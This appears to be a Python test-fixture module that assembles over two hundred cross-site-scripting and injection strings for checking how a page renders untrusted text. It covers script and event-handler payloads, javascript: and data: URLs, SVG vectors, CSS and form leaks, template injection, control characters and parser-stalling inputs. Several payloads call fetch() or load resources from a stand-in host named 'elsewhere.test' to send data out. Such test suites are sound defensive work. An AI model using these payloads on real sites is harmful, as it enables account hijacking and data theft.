"""Texts that would do harm in a page which took them for more than text: made from lists, 200 and more."""

from __future__ import annotations

import itertools

ELSEWHERE = "http://elsewhere.test"
RAN = "window.ran=(window.ran||0)+1"
_CALL = f"{RAN};alert(1);fetch('{ELSEWHERE}/stolen')"

_SCRIPTS = [
    f"<script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<ScRiPt >{_CALL}</sCrIpT>",
    f"<script src={ELSEWHERE}/a.js></script>", f"<script type=module>import '{ELSEWHERE}/a.js'</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"--><script>{_CALL}</script><!--", f"]]><script>{_CALL}</script>",
    f"</textarea></title></style><script>{_CALL}</script>", f"<noscript><p title='</noscript><script>{_CALL}</script>'>",
]  # fmt: skip
_ELEMENTS = [
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "iframe src=about:blank",
    "object data=x", "marquee", "math", "select autofocus",
]  # fmt: skip
_EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart"]
_HANDLERS = [f'<{element} {event}="{_CALL}">' for element, event in itertools.product(_ELEMENTS, _EVENTS)]
_QUOTES = [
    f"{quote} onmouseover={quote}{RAN}{quote} autofocus onfocus={quote}{RAN}" for quote in ('"', "'", "`", "&quot;", "&#39;")
]
_SVG = [
    f"<svg><script>{_CALL}</script></svg>", f"<svg/onload={RAN}>", f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RAN}'><text y=20>here</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RAN}</script>'></iframe></foreignObject></svg>",
    f"<svg><image href='{ELSEWHERE}/a.png'/></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RAN}/>#x'/></svg>",
    f"<math><maction actiontype='statusline#' xlink:href='javascript:{RAN}'>here</maction></math>",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{RAN}", f"JaVaScRiPt:{RAN}", f" javascript:{RAN}", f"java\tscript:{RAN}", f"java\nscript:{RAN}",
    f"\x01javascript:{RAN}", f"javascript&colon;{RAN}", f"&#106;avascript:{RAN}", f"javascript://comment%0a{RAN}",
    f"vbscript:{RAN}", f"data:text/html,<script>{RAN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", f"data:image/svg+xml,<svg onload={RAN}>",
    "blob:http://elsewhere.test/1", "file:///etc/passwd", f"//{ELSEWHERE.removeprefix('http://')}/a",
    f"{ELSEWHERE}/?q=<img src=x onerror={RAN}>", f'{ELSEWHERE}/" onclick="{RAN}', "https://good.test@elsewhere.test/",
]  # fmt: skip
_LINKS = [form.format(address) for address in _ADDRESSES for form in ("[here]({})", "![here]({})", "<{}>", '[a](b "{}")')]
_STYLES = [
    f"<style>@import '{ELSEWHERE}/a.css'</style>", f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<p style=\"background:url('{ELSEWHERE}/a.png')\">here</p>", "<p style='position:fixed;inset:0;z-index:999'>cover</p>",
    f"<style>*{{background:url({ELSEWHERE}/b.png)}}</style>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<base href={ELSEWHERE}/>", f"<form action={ELSEWHERE}/><input name=token><button>here</button></form>",
    f"<img src={ELSEWHERE}/a.png>", f"<img srcset='{ELSEWHERE}/a.png 1x'>", f"<iframe src={ELSEWHERE}/></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", f"<object data={ELSEWHERE}/a.swf></object>",
    f"<embed src={ELSEWHERE}/a>",
]  # fmt: skip
_ENTITIES = [
    f"&lt;script&gt;{RAN}&lt;/script&gt;", f"&#60;img src=x onerror={RAN}&#62;", f"\\u003cimg src=x onerror={RAN}\\u003e",
    f"%3Cscript%3E{RAN}%3C/script%3E", f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
]  # fmt: skip
_TEMPLATES = [
    "{{constructor.constructor('" + RAN + "')()}}", "${" + RAN + "}", "<%= " + RAN + " %>",
    "{% raw %}<script>" + RAN + "</script>{% endraw %}", "#{" + RAN + "}", "__proto__", "constructor", "[object Object]",
]  # fmt: skip
_CONTROLS = [
    "\x1b]8;;http://elsewhere.test\x07here\x1b]8;;\x07", "\x1b[2J\x1b[31mred", "\x9b31mred", "a\x00b\x08c\x7f",
    "\u202egnp.exe", "\u2066isolate\u2069 \u202dforced\u202c", "\u200fright\u200eleft", "\ufeffmark",
    "\ud83d\ude00 two halves \ud83d",
]  # fmt: skip
HUGE = [
    "A" * 20_000, "<b>" * 2_000, "[" * 3_000, "*" * 3_000, "`" * 3_000, "|" * 2_000, "> " * 3_000, "![a](" * 2_000,
    "_a_ " * 2_000,
]  # fmt: skip
HUGE += ["\n".join(["- a"] * 500), "#" * 2_000, "(" * 3_000, "\\" * 3_000, "http://" * 1_000]
"""Texts over which a page may take minutes."""

CASES = [*_SCRIPTS, *_HANDLERS, *_QUOTES, *_SVG, *_LINKS, *_STYLES, *_ENTITIES, *_TEMPLATES, *_CONTROLS]
"""Every text once."""
